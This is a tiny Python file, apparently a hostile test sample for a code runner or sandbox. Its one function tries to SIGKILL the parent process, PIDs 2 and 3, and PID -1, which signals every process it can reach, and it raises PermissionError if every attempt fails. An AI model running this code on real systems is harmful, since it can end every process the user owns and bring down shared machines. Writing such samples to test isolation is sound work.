"""Kill the runner, the siblings and everybody."""

import os


def attempt():
    killed = []
    for number in (os.getppid() or 2, 2, 3, -1):
        try:
            os.kill(number, 9)
            killed.append(number)
        except OSError:
            continue
    if not killed:
        raise PermissionError
    return killed
